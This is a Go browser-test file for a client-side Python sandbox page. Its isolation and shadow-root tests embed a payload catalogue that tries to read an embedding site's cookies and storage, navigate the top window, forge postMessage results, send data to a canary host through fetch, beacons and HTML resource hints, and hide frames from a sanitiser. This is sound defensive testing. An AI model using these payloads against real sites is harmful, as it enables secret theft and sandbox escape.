package main

import (
	"bytes"
	"context"
	"image/png"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// pngCode writes a 40×20 red PNG with nothing but the standard library.
const pngCode = `import struct, zlib
def png(w, h, rgb):
    raw = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))
    chunk = lambda t, d: struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
open("red.png", "wb").write(png(40, 20, (255, 0, 0)))
`

// TestClientPageShowsImageAndHTML opens a client-side page whose code
// writes a PNG and an HTML file: the image is shown decoded, and the HTML
// is rendered, styles and all, in a frame sandboxed with no permission.
func TestClientPageShowsImageAndHTML(t *testing.T) {
	code := pngCode + `open("report.html", "w").write('<body style="margin:0;background:#00ff00"><h1>a report</h1></body>')
print("two files")
`
	url := createPage(t, map[string]any{"code": code})
	ctx := tab(t)
	do(t, ctx, time.Minute, chromedp.Navigate(url))
	if st := waitStatus(t, ctx); st != "succeeded" {
		t.Fatalf("status %s: %s", st, eval[string](t, ctx, 5*time.Second, `document.body.innerText`))
	}
	if out := eval[string](t, ctx, 5*time.Second, `document.querySelector(".stdout pre").textContent`); out != "two files\n" {
		t.Errorf("stdout shown: %q", out)
	}
	if w := eval[int](t, ctx, 5*time.Second, `document.querySelector("figure.image img").naturalWidth`); w != 40 {
		t.Errorf("the image's decoded width is %d, want 40", w)
	}
	if sb := eval[string](t, ctx, 5*time.Second, `document.querySelector("iframe.html").getAttribute("sandbox")`); sb != "" {
		t.Errorf("the HTML frame's sandbox is %q, want empty: no permission at all", sb)
	}
	sctx, cancel := context.WithTimeout(ctx, 20*time.Second)
	defer cancel()
	shot, err := chromedp.Run(sctx, chromedp.Screenshot(chromedp.CSS("iframe.html")))
	if err != nil {
		t.Fatal(err)
	}
	img, err := png.Decode(bytes.NewReader(shot))
	if err != nil {
		t.Fatal(err)
	}
	b := img.Bounds()
	r, g, bl, _ := img.At(b.Min.X+b.Dx()/2, b.Max.Y-20).RGBA()
	if r>>8 > 40 || g>>8 < 200 || bl>>8 > 40 {
		t.Errorf("the HTML output is not rendered: pixel %d,%d,%d, want the page's green", r>>8, g>>8, bl>>8)
	}
}

// isolationCode tries, from a client-side page, every way at the embedding
// application's secrets, at the network, and at the top window. {C} is
// the canary's URL, {S} sandpit's.
const isolationCode = `import js, asyncio
from pyodide.ffi import to_js
print("origin", js.self.origin)
results = []
def check(name, f):
    try:
        v = f()
        results.append(f"BREACH {name}: {v!r}"[:300])
    except BaseException as e:
        results.append(f"SAFE {name}: {type(e).__name__}")
async def acheck(name, f):
    try:
        v = await f()
        results.append(f"BREACH {name}: {v!r}"[:300])
    except BaseException as e:
        results.append(f"SAFE {name}: {type(e).__name__}")
def opts(**kw):
    return to_js(kw, dict_converter=js.Object.fromEntries)
check("cookie", lambda: js.document.cookie)
check("localStorage", lambda: js.localStorage.getItem("app_secret"))
check("sessionStorage", lambda: js.sessionStorage.getItem("app_secret"))
check("parent", lambda: js.parent.document.cookie)
check("top", lambda: js.top.location.href)
check("navigate top", lambda: setattr(js.top.location, "href", "{C}/top"))
check("indexedDB", lambda: js.indexedDB.open("x"))
check("caches", lambda: js.caches.keys())
check("cookieStore", lambda: js.cookieStore.getAll())
await acheck("fetch", lambda: js.fetch("{C}/fetch"))
await acheck("fetch no-cors", lambda: js.fetch("{C}/no-cors", opts(mode="no-cors")))
await acheck("fetch sandpit's API", lambda: js.fetch("{S}/healthz"))
await acheck("post to sandpit's API", lambda: js.fetch("{S}/v1/run", opts(method="POST", body='{"code": "1"}')))
def xhr(asynchronous):
    x = js.XMLHttpRequest.new()
    x.open("GET", "{C}/xhr-" + ("async" if asynchronous else "sync"), asynchronous)
    x.send()
    return None if asynchronous else x.status
check("sync XMLHttpRequest", lambda: xhr(False))
try:
    xhr(True)
except BaseException:
    pass
check("WebSocket", lambda: js.WebSocket.new("ws://{HOST}/ws"))
check("EventSource", lambda: js.EventSource.new("{C}/es"))
check("nested worker", lambda: js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js(["fetch('{C}/nested')"])))))
check("importScripts", lambda: js.importScripts("{C}/script.js"))
await acheck("dynamic import", lambda: js.Function.new("u", "return import(u)")("{C}/module.mjs"))
check("Image", lambda: setattr(js.Image.new(), "src", "{C}/image"))
await acheck("image bitmap from the network", lambda: js.createImageBitmap(js.fetch("{C}/bitmap")))
check("sendBeacon", lambda: js.navigator.sendBeacon("{C}/beacon", "x"))
await asyncio.sleep(0.5)
open("attempts.html", "w").write("""<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url={C}/refresh">
<link rel="stylesheet" href="{C}/style.css">
<link rel="preconnect" href="{C}">
<link rel="dns-prefetch" href="{C}">
<link rel="prefetch" href="{C}/prefetch">
<link rel="preload" as="image" href="{C}/preload">
<link rel="icon" href="{C}/icon">
<style>@import url("{C}/import.css"); body { background: url("{C}/background") }</style>
</head><body>
<img src="{C}/img"><img srcset="{C}/srcset 1x"><input type="image" src="{C}/input">
<iframe src="{C}/iframe"></iframe><object data="{C}/object"></object><embed src="{C}/embed">
<video poster="{C}/poster" src="{C}/video" autoplay></video><audio src="{C}/audio" autoplay></audio>
<form action="{C}/form" method="post"><input name="x" value="y" autofocus></form>
<script>fetch("{C}/script"); parent.postMessage({sandpit: "page", job: {status: "forged"}}, "*"); top.location = "{C}/top";</script>
<svg xmlns="http://www.w3.org/2000/svg"><image href="{C}/svg-image"/></svg>
<noscript><link rel="preconnect" href="{C}"></noscript><template><link rel="preconnect" href="{C}"></template>
<a href="{C}/link">a link</a> <a href="{C}/top-link" target="_top">the top</a>
</body></html>""")
open("beacon.svg", "w").write('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><image href="{C}/svg-in-img"/><script>fetch("{C}/svg-script")</script></svg>')
print("\n".join(results))
`

// TestClientPageIsolation embeds a client-side page in an application on
// another site that keeps secrets in cookies and storage. The page's code,
// and the HTML and SVG files it writes, try to read them, to reach the
// network (a canary on loopback, which this browser can reach), and to
// navigate the application's window; nothing gets through.
func TestClientPageIsolation(t *testing.T) {
	c := newCanary(t)
	app := appServer(t)
	ctx := tab(t)
	// The control, that this browser does reach the canary from an ordinary
	// page, comes last, in another tab: Chromium learns the hosts a site's
	// pages connect to, and preconnects to them on the site's next load.
	defer func() {
		ctrl := tab(t)
		do(t, ctrl, time.Minute, chromedp.Navigate(strings.Replace(app, "localhost", "127.0.0.1", 1)+"/embed?src=about:blank"))
		eval[any](t, ctrl, 10*time.Second, `fetch("`+c.URL()+`/control", {mode: "no-cors"}).then(() => null)`)
		if got := c.Take(); len(got) == 0 {
			t.Error("the control request did not reach the canary: the test proves nothing")
		}
	}()

	host := strings.TrimPrefix(c.URL(), "http://")
	code := strings.NewReplacer("{C}", c.URL(), "{S}", webBase, "{HOST}", host).Replace(isolationCode)
	pageURL := createPage(t, map[string]any{"code": code, "timeout_ms": 20000})
	start := app + "/embed?src=" + pageURL
	do(t, ctx, time.Minute, chromedp.Navigate(start))
	job := eval[map[string]any](t, ctx, 3*time.Minute, `new Promise((resolve) => {
		const iv = setInterval(() => { if (window.sandpitJob) { clearInterval(iv); resolve(window.sandpitJob); } }, 50);
	})`)
	stdout, _ := job["stdout"].(string)
	if job["status"] != "succeeded" {
		t.Fatalf("job %v: %v %v", job["status"], job["error"], job["message"])
	}
	t.Logf("the code's attempts:\n%s", stdout)
	if !strings.Contains(stdout, "origin null\n") {
		t.Error("the code does not run on an opaque origin")
	}
	if strings.Contains(stdout, "BREACH") || strings.Count(stdout, "SAFE ") < 20 {
		t.Error("an attempt succeeded, or did not run")
	}
	for _, secret := range []string{"SECRET-1", "SECRET-2", "SECRET-3", "SECRET-4"} {
		if strings.Contains(stdout, secret) {
			t.Errorf("the code read the application's %s", secret)
		}
	}
	if files, _ := job["files"].([]any); len(files) != 2 {
		t.Errorf("%d output files, want the HTML and SVG ones", len(files))
	}
	// Give late requests (a refresh, a preconnect) time to be made.
	time.Sleep(2 * time.Second)
	if got := c.Take(); len(got) > 0 {
		t.Errorf("the canary was contacted: %v", got)
	}
	state := eval[map[string]any](t, ctx, 10*time.Second, `({
		href: location.href, cookie: document.cookie, storage: localStorage.getItem("app_secret"),
		session: sessionStorage.getItem("app_secret"), job: window.sandpitJob.status})`)
	if state["href"] != start {
		t.Errorf("the application's window was navigated to %v", state["href"])
	}
	if state["cookie"] != "app_secret=cookie-SECRET-2" || state["storage"] != "storage-SECRET-3" || state["session"] != "session-SECRET-4" {
		t.Errorf("the application's cookies or storage changed: %v", state)
	}
	if state["job"] != "succeeded" {
		t.Errorf("the job the application received is %v: forged by the output", state["job"])
	}
}

// TestClientPageTimeout runs an endless loop on a client-side page: it ends
// as timeout, with what it printed, and the page stays responsive.
func TestClientPageTimeout(t *testing.T) {
	url := createPage(t, map[string]any{"code": "print('looping')\nwhile True:\n    pass", "timeout_ms": 1500})
	ctx := tab(t)
	do(t, ctx, time.Minute, chromedp.Navigate(url))
	if st := waitStatus(t, ctx); st != "timeout" {
		t.Fatalf("status %s, want timeout", st)
	}
	text := eval[string](t, ctx, 5*time.Second, `document.getElementById("output").innerText`)
	if !strings.Contains(text, "timed out") || !strings.Contains(text, "the code ran longer than its timeout of 1.5s") || !strings.Contains(text, "looping") {
		t.Errorf("the page shows:\n%s", text)
	}
	// The page answers at once, and runs the code again on request.
	if got := eval[int](t, ctx, 2*time.Second, `1 + 1`); got != 2 {
		t.Fatal("the page does not answer")
	}
	do(t, ctx, 5*time.Second, chromedp.Click(chromedp.ID("again")))
	if st := waitStatus(t, ctx); st != "timeout" {
		t.Fatalf("second run: status %s, want timeout", st)
	}
}

// shadowCode writes an HTML file that hides what the output sanitiser
// drops inside declarative shadow roots, which a parser that does not
// attach them (DOMParser, as the sanitiser once used) leaves as inert
// templates, and the frame's srcdoc then brings to life. {C} is the
// canary's URL.
const shadowCode = `open("shadow.html", "w").write("""<!doctype html><html><body>
<p id="shown">visible text</p>
<div><template shadowrootmode="open"><iframe src="{C}/shadow-iframe"></iframe><link rel="preconnect" href="{C}"><p>in a shadow root</p></template></div>
<div><template shadowrootmode="closed"><object data="{C}/shadow-object"></object><embed src="{C}/shadow-embed"></template></div>
<div><template shadowrootmode="open"><div><template shadowrootmode="open"><iframe src="{C}/nested-shadow-iframe"></iframe></template></div></template></div>
<div><template shadowroot="open"><iframe src="{C}/old-shadow-iframe"></iframe></template></div>
<svg><foreignObject><div><template shadowrootmode="open"><iframe src="{C}/svg-shadow-iframe"></iframe></template></div></foreignObject></svg>
</body></html>""")
print("written")
`

// TestClientPageHTMLInShadowRoots shows HTML output that puts frames,
// objects and hints inside declarative shadow roots: none of them reaches
// the canary, and none is in the document the output frame gets.
func TestClientPageHTMLInShadowRoots(t *testing.T) {
	c := newCanary(t)
	ctx := tab(t)
	defer func() {
		ctrl := tab(t)
		do(t, ctrl, time.Minute, chromedp.Navigate(webBase+"/healthz"))
		eval[any](t, ctrl, 10*time.Second, `fetch("`+c.URL()+`/control", {mode: "no-cors"}).then(() => null)`)
		if got := c.Take(); len(got) == 0 {
			t.Error("the control request did not reach the canary: the test proves nothing")
		}
	}()
	url := createPage(t, map[string]any{"code": strings.ReplaceAll(shadowCode, "{C}", c.URL())})
	do(t, ctx, time.Minute, chromedp.Navigate(url))
	if st := waitStatus(t, ctx); st != "succeeded" {
		t.Fatalf("status %s: %s", st, eval[string](t, ctx, 5*time.Second, `document.body.innerText`))
	}
	time.Sleep(2 * time.Second) // late requests: a preconnect, a frame's navigation
	if got := c.Take(); len(got) > 0 {
		t.Errorf("the canary was contacted: %v", got)
	}
	srcdoc := eval[string](t, ctx, 5*time.Second, `document.querySelector("iframe.html").srcdoc`)
	for _, gone := range []string{"<iframe", "<object", "<embed", "<link", "shadowroot"} {
		if strings.Contains(strings.ToLower(srcdoc), gone) {
			t.Errorf("the output frame's document holds %s:\n%s", gone, srcdoc)
		}
	}
	if !strings.Contains(srcdoc, "visible text") {
		t.Errorf("the output frame's document lost the file's text:\n%s", srcdoc)
	}
}
